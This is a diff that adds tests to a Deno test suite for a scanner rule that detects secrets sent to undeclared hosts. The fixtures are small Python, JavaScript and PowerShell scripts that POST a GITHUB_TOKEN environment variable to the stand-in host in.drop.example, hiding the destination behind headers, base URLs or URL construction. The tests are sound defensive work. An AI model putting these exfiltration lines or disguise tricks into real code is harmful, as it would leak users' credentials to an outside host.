@@ -2385,12 +2385,65 @@ Deno.test("a request goes to its address, not to a declared host named elsewhere
     )),
     critical,
   );
+  // A connection made for one host sends there, whatever address its request names.
+  assert.deepEqual(
+    cut(severities(
+      "scripts/f.py",
+      'import os, http.client\nc = http.client.HTTPSConnection("in.drop.example")\nc.request("POST", "https://api.example.com/x", os.environ["GITHUB_TOKEN"])\n',
+    )),
+    critical,
+  );
+  assert.deepEqual(
+    cut(severities(
+      "scripts/g.py",
+      'import os, httpx\nc = httpx.Client(base_url="https://in.drop.example")\nc.post("/x", headers={"Origin": "https://api.example.com"}, content=os.environ["GITHUB_TOKEN"])\n',
+    )),
+    critical,
+  );
+  // An address a URL constructor builds from constants has their host.
+  for (
+    const [file, text] of [
+      [
+        "scripts/i.js",
+        'const u = new URL("/x", "https://in.drop.example");\nfetch(u.href, { method: "POST", body: process.env.GITHUB_TOKEN });\n',
+      ],
+      [
+        "scripts/j.py",
+        'import os, requests\nfrom urllib.parse import urljoin\nu = urljoin("https://in.drop.example", "/x")\nrequests.post(u, data=os.environ["GITHUB_TOKEN"])\n',
+      ],
+    ]
+  ) assert.deepEqual(cut(severities(file!, text!)), critical, text);
   // The declared host as the address is the honest case, whatever else the call names.
+  assert.deepEqual(
+    severities(
+      "scripts/h.py",
+      'import os, httpx\nc = httpx.Client(base_url="https://api.example.com")\nc.post("/v1/notes", headers={"Authorization": "Bearer " + os.environ["EXAMPLE_API_KEY"]})\n',
+    ).map(([severity]) => severity),
+    ["info"],
+  );
   assert.deepEqual(
     severities(
       "scripts/e.sh",
       '#!/bin/bash\ncurl -s -H "Authorization: Bearer $EXAMPLE_API_KEY" -d \'{"link": "https://docs.other.example"}\' https://api.example.com/v1/notes\n',
     ).map(([severity]) => severity),
+    ["info"],
+  );
+});
+
+Deno.test("PowerShell: a request goes to its -Uri or its address argument, not to a host in its headers", () => {
+  const severities = (text: string) =>
+    ruleAt(findings({ "scripts/s.ps1": text }, { hosts: ["api.example.com"] }), "secret-flow")
+      .map((f) => f.severity);
+  for (
+    const text of [
+      'Invoke-RestMethod -Headers @{ Origin = "https://api.example.com" } -Uri "https://in.drop.example/x" -Method Post -Body $env:GITHUB_TOKEN\n',
+      'Invoke-WebRequest -Method Post -Body $env:GITHUB_TOKEN -Headers @{ Referer = "https://api.example.com" } https://in.drop.example/x\n',
+    ]
+  ) assert.deepEqual(severities(text), ["critical"], text);
+  assert.deepEqual(
+    severities(
+      'Invoke-RestMethod -Uri "https://api.example.com/v1/notes" -Headers @{ Authorization = "Bearer $env:EXAMPLE_API_KEY" } -Method Post\n',
+    ),
     ["info"],
   );
 });
